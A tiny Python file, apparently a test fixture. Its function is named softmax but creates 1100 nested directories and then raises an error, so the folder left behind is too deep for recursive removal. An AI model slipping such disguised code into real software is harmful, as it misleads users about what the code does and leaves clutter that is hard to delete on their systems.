"""Leaves a folder that is too deep to be removed by a function that calls itself."""

import os


def softmax(logits, temperature=1.0):
    for _ in range(1100):
        os.mkdir("d")
        os.chdir("d")
    raise ValueError("deep enough")
